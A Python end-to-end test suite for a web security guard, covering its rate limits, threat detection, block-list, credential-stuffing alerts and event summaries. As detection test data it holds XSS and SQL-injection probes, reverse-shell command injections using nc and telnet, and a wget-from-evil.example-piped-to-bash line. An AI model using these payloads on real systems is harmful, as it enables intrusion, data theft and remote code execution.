"""pitchey-security on real workerd: the guide's rate-limit loop through a real Python API Worker
protected by edgewatch_cf.guard, the check API, threats, the block-list, anomalies and events."""

from __future__ import annotations

import math
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from typing import Any

from scripts.stack import Stack
from tests.e2e.conftest import ADMIN_TOKEN, INGEST_TOKEN, READ_TOKEN

ADMIN = {"authorization": f"Bearer {ADMIN_TOKEN}", "content-type": "application/json"}
INGEST = {"authorization": f"Bearer {INGEST_TOKEN}", "content-type": "application/json"}
READ = {"authorization": f"Bearer {READ_TOKEN}"}
_ips = iter(range(1, 250))


def fresh_ip() -> str:
    """A documentation address (198.51.100.0/24) no other test uses."""
    return f"198.51.100.{next(_ips)}"


def api(stack: Stack, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
    """A request to the example platform API (routed at /api/), as a browser would send it."""
    req = urllib.request.Request(stack.base_url + path, headers=headers, method="GET")
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, {k.lower(): v for k, v in resp.headers.items()}, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, {k.lower(): v for k, v in err.headers.items()}, err.read()


def check(stack: Stack, body: dict[str, Any]) -> dict[str, Any]:
    status, answer = stack.request("POST", "/security/check", body, INGEST)
    assert status == 200, answer
    result: dict[str, Any] = answer
    return result


def events(stack: Stack, query: str) -> list[dict[str, Any]]:
    status, body = stack.request("GET", f"/security/events?{query}", None, READ)
    assert status == 200, body
    found: list[dict[str, Any]] = body["events"]
    return found


def test_the_guides_loop_five_logins_then_429_with_headers(stack: Stack) -> None:
    ip = fresh_ip()
    answers = [api(stack, "/api/auth/login", {"cf-connecting-ip": ip}) for _ in range(10)]
    assert [status for status, _, _ in answers] == [200] * 5 + [429] * 5
    _, first, _ = answers[0]
    assert first["x-ratelimit-limit"] == "5"
    assert first["x-ratelimit-remaining"] == "4"
    assert [a[1]["x-ratelimit-remaining"] for a in answers[:5]] == ["4", "3", "2", "1", "0"]
    _, refused, body = answers[5]
    now_s = time.time()
    retry_after = int(refused["retry-after"])
    assert 895 <= retry_after <= 900  # the first login's slot frees 15 minutes after it
    assert refused["x-ratelimit-limit"] == "5"
    assert refused["x-ratelimit-remaining"] == "0"
    assert abs(int(refused["x-ratelimit-reset"]) - (now_s + retry_after)) <= 3  # epoch seconds
    assert refused["ratelimit-limit"] == "5"
    assert refused["ratelimit-remaining"] == "0"
    assert refused["ratelimit-reset"] == refused["retry-after"]
    assert refused["ratelimit-policy"] == "5;w=900, 20;w=3600"
    assert b"rate_limited" in body
    # The refusals are security events for this client and rule.
    found = events(stack, f"type=rate_limited&identifier=ip:{ip}")
    assert len(found) == 5
    assert {e["rule_id"] for e in found} == {"rate-limit-auth"}


def test_identifiers_do_not_share_counters(stack: Stack) -> None:
    a, b = fresh_ip(), fresh_ip()
    for _ in range(5):
        assert api(stack, "/api/auth/login", {"cf-connecting-ip": a})[0] == 200
    assert api(stack, "/api/auth/login", {"cf-connecting-ip": a})[0] == 429
    assert api(stack, "/api/auth/login", {"cf-connecting-ip": b})[0] == 200
    # A known user is counted as the user, whatever the IP.
    user = f"u-{uuid.uuid4().hex[:8]}"
    for _ in range(5):
        assert api(stack, "/api/auth/login", {"cf-connecting-ip": a, "x-user-id": user})[0] == 200
    assert api(stack, "/api/auth/login", {"cf-connecting-ip": b, "x-user-id": user})[0] == 429


def test_most_specific_rule_wins(stack: Stack) -> None:
    ip = fresh_ip()
    login = check(stack, {"path": "/api/auth/login", "ip": ip})
    assert (login["rule"], login["limit"], login["remaining"]) == ("rate-limit-auth", 5, 4)
    other = check(stack, {"path": "/api/pitches/42", "ip": ip})
    assert (other["rule"], other["limit"], other["remaining"]) == ("rate-limit-api", 100, 99)
    assert check(stack, {"path": "/health", "ip": ip})["outcome"] == "no_rule"
    # A query string or a full URL is the same path.
    assert check(stack, {"pathname": "https://app.example/api/pitches/1?x=1", "ip": ip})["remaining"] == 98


def test_check_api_validates_and_needs_a_token(stack: Stack) -> None:
    assert stack.request("POST", "/security/check", {"path": "/api/x"}, {"content-type": "application/json"})[0] == 401
    assert stack.request("POST", "/security/check", b"{oops", INGEST)[0] == 400
    assert stack.request("POST", "/security/check", {"path": "/x"}, {**INGEST, "content-type": "text/plain"})[0] == 415
    for bad, field in [({}, "path"), ({"path": "relative"}, "path"), ({"path": "/x", "colour": 1}, "colour"),
                       ({"path": "/x", "headers": []}, "headers"), ([1], "object")]:  # fmt: skip
        status, body = stack.request("POST", "/security/check", bad, INGEST)
        assert status == 422, (bad, body)
        assert field in body["error"]["message"]


def test_the_guard_refuses_an_indescribable_request_with_400(stack: Stack) -> None:
    status, _, body = api(stack, "/api/" + "a" * 9000, {"cf-connecting-ip": fresh_ip()})
    assert status == 400, body
    assert b"path: longer than 8192 characters" in body


def test_the_seed_xss_probe_is_detected_and_recorded(stack: Stack) -> None:
    ip = fresh_ip()
    # As a browser sends the guide's probe /api/test?param=<script>alert('xss')</script>.
    status, _, _ = api(stack, "/api/test?param=%3Cscript%3Ealert('xss')%3C/script%3E", {"cf-connecting-ip": ip})
    assert status == 200  # the default policy monitors: recorded, not refused
    [event] = events(stack, f"type=threat&identifier=ip:{ip}")
    assert event["detail"]["primary"] == "xss"
    assert event["score"] >= 70
    assert event["route"] == "/api/*"
    result = check(stack, {"path": "/api/search", "query": "q=1' UNION SELECT password FROM users--", "ip": ip})
    assert result["threat"]["primary"] == "sqli"
    assert result["allowed"]


def test_threat_mode_is_per_route(stack: Stack) -> None:
    ip = fresh_ip()
    probe = "q=%3Csvg%20onload%3Dalert(1)%3E"
    status, _, body = api(stack, f"/api/admin/users?{probe}", {"cf-connecting-ip": ip})
    assert status == 403, body  # /api/admin/* blocks
    assert b"forbidden" in body
    assert api(stack, f"/api/search?{probe}", {"cf-connecting-ip": ip})[0] == 200  # elsewhere: monitored
    actions = sorted(e["detail"]["action"] for e in events(stack, f"type=threat&identifier=ip:{ip}"))
    assert actions == ["block", "monitor"]
    # Prose that looks like SQL is not a threat.
    clean = check(stack, {"path": "/api/admin/notes", "query": "text=please select one item from the list", "ip": ip})
    assert clean["allowed"] and "threat" not in clean


# Issue 13: boolean-blind SQL injection through a subquery, and command injection that opens a
# shell over the network, each sent URL-encoded (as a browser or curl does) to the guarded API.
ISSUE_13_PROBES = [
    (
        "/api/search",
        "id",
        "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'",
        "sqli",
        "sqli.blind_subquery",
    ),
    ("/api/search", "q", "x'/**/OR/**/EXISTS(SELECT/**/1/**/FROM/**/users)--%20", "sqli", "sqli.blind_subquery"),
    ("/api/ping", "host", "127.0.0.1; n''c${IFS}-e${IFS}/bin/sh 10.0.0.1 4444", "cmdi", "cmdi.reverse_shell"),
    ("/api/ping", "host", "x | telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445", "cmdi", "cmdi.reverse_shell"),
    ("/api/ping", "host", "`wget -qO- http://evil.example/s | bash`", "cmdi", "cmdi.download_exec"),
]


def test_blind_sqli_and_network_shells_are_recorded_with_their_rule(stack: Stack) -> None:
    for path, param, value, threat, rule in ISSUE_13_PROBES:
        ip = fresh_ip()
        status, _, body = api(stack, f"{path}?{param}={urllib.parse.quote(value, safe='')}", {"cf-connecting-ip": ip})
        assert status == 200, body  # /api/* monitors
        [event] = events(stack, f"type=threat&identifier=ip:{ip}")
        assert event["detail"]["primary"] == threat, (value, event)
        assert event["detail"]["action"] == "monitor"
        assert event["score"] >= 70
        assert rule in {hit["rule"] for hit in event["detail"]["hits"]}, (value, event["detail"]["hits"])
    # The same shapes are refused where the route blocks ...
    ip = fresh_ip()
    value = urllib.parse.quote(ISSUE_13_PROBES[0][2], safe="")
    assert api(stack, f"/api/admin/users?id={value}", {"cf-connecting-ip": ip})[0] == 403
    # ... and ordinary text with the same words is no threat.
    for text in ("select a size and color", "curl up with a book", "nc state | tickets", "cat and dog"):
        clean = check(stack, {"path": "/api/admin/notes", "query": "q=" + urllib.parse.quote(text), "ip": fresh_ip()})
        assert clean["allowed"] and "threat" not in clean, (text, clean)


def test_block_list_manual_and_automatic(stack: Stack) -> None:
    ip = fresh_ip()
    assert api(stack, "/api/pitches", {"cf-connecting-ip": ip})[0] == 200
    status, body = stack.request("POST", "/security/blocklist", {"target": ip, "ttl": "1h", "reason": "abuse"}, ADMIN)
    assert status == 201, body
    assert stack.request("POST", "/security/blocklist", {"target": "not-an-ip"}, ADMIN)[0] == 422
    assert stack.request("POST", "/security/blocklist", {"target": ip}, INGEST)[0] == 401
    status, headers, _ = api(stack, "/api/pitches", {"cf-connecting-ip": ip})
    assert status == 403
    assert 3595 <= int(headers["retry-after"]) <= 3600
    listed = stack.request("GET", "/security/blocklist", None, READ)[1]["entries"]
    assert any(e["target"] == ip and e["source"] == "manual" for e in listed)
    assert stack.request("DELETE", f"/security/blocklist/{ip}", None, ADMIN)[0] == 204
    assert api(stack, "/api/pitches", {"cf-connecting-ip": ip})[0] == 200
    assert stack.request("DELETE", f"/security/blocklist/{ip}", None, ADMIN)[0] == 404

    # Five high-score threats within ten minutes block the IP automatically.
    attacker = fresh_ip()
    for i in range(5):
        result = check(stack, {"path": "/api/search", "query": f"q=<script>alert({i})</script>", "ip": attacker})
        assert result["allowed"]
    result = check(stack, {"path": "/api/pitches", "ip": attacker})
    assert result["outcome"] == "block_listed"
    assert result["status"] == 403
    assert result["block"]["source"] == "automatic"
    assert events(stack, f"type=blocked&identifier=ip:{attacker}")


def test_credential_stuffing_is_flagged(stack: Stack) -> None:
    ip = fresh_ip()
    for i in range(10):  # one IP trying ten accounts
        body = {"path": "/api/auth/login", "ip": ip, "account": f"acct-{ip}-{i}", "status": 401}
        status, answer = stack.request("POST", "/security/report", body, INGEST)
        assert status == 202, answer
    flagged = events(stack, f"type=anomaly&identifier=ip:{ip}")
    assert [e["detail"]["kind"] for e in flagged] == ["credential_stuffing_one_ip_many_accounts"]

    account = f"victim-{uuid.uuid4().hex[:6]}"
    for _ in range(5):  # five IPs failing against one account
        body = {"path": "/api/auth/login", "ip": fresh_ip(), "account": account, "status": 401}
        assert stack.request("POST", "/security/report", body, INGEST)[0] == 202
    flagged = events(stack, f"type=anomaly&identifier=account:{account}")
    assert [e["detail"]["kind"] for e in flagged] == ["credential_stuffing_many_ips_one_account"]
    assert stack.request("POST", "/security/report", {"path": "/x", "status": "ok"}, INGEST)[0] == 422


def test_events_filter_page_and_summary(stack: Stack) -> None:
    ip = fresh_ip()
    began = int(time.time() * 1000)
    for _ in range(8):
        check(stack, {"path": "/api/auth/login", "ip": ip})
    page = stack.request("GET", f"/security/events?identifier=ip:{ip}&limit=2", None, READ)[1]
    assert len(page["events"]) == 2
    assert page["next_cursor"]
    seen = [e["id"] for e in page["events"]]
    while page["next_cursor"]:
        page = stack.request(
            "GET", f"/security/events?identifier=ip:{ip}&limit=2&cursor={page['next_cursor']}", None, READ
        )[1]
        seen += [e["id"] for e in page["events"]]
    assert len(seen) == len(set(seen)) == 3
    assert stack.request("GET", "/security/events?type=bogus", None, READ)[0] == 422
    assert stack.request("GET", "/security/events", None, {})[0] == 401
    # The summary of exactly this test's minutes (tests run one at a time): three refusals.
    span = f"from={began}&to={int(time.time() * 1000) + 1}"
    status, summary = stack.request("GET", f"/security/summary?{span}&bucket=1m", None, READ)
    assert status == 200, summary
    assert summary["by_type"] == {"rate_limited": 3, "threat": 0, "anomaly": 0, "blocked": 0}
    assert summary["total"] == 3 == sum(b["total"] for b in summary["buckets"])
    assert summary["top_identifiers"] == [{"key": f"ip:{ip}", "count": 3}]
    assert summary["top_rules"] == [{"key": "rate-limit-auth", "count": 3}]
    assert summary["top_routes"] == [{"key": "/api/auth/*", "count": 3}]
    # A filtered summary counts the same events.
    status, filtered = stack.request(
        "GET", f"/security/summary?{span}&type=rate_limited&identifier=ip:{ip}", None, READ
    )
    assert status == 200, filtered
    assert filtered["total"] == 3
    assert stack.request("GET", "/security/summary?bucket=1ms", None, READ)[0] == 422


def test_fails_open_when_the_limiter_is_unreachable_and_counts_it(stack: Stack) -> None:
    before = stack.request("GET", "/security/health")[1]["limiter"]["unreachable_total"]
    assert stack.request("PUT", "/logs/_test/faults/rate_limiter?count=1")[0] == 200  # KV is shared by the Workers
    result = check(stack, {"path": "/api/auth/login", "ip": fresh_ip()})
    assert result["allowed"] is True
    assert result["outcome"] == "failed_open"
    health = stack.request("GET", "/security/health")[1]
    assert health["limiter"]["unreachable_total"] == before + 1
    assert health["limiter"]["fail_mode"] == "open"


def test_counters_survive_a_restart_of_the_stack(stack: Stack) -> None:
    ip = fresh_ip()
    for _ in range(3):
        assert check(stack, {"path": "/api/auth/login", "ip": ip})["allowed"]
    stack.stop()
    stack.start()
    result = check(stack, {"path": "/api/auth/login", "ip": ip})
    assert result["remaining"] == 1  # the three before the restart still count
    assert check(stack, {"path": "/api/auth/login", "ip": ip})["allowed"]
    refused = check(stack, {"path": "/api/auth/login", "ip": ip})
    assert not refused["allowed"]
    assert math.ceil(refused["retry_after_ms"] / 1000) <= 900
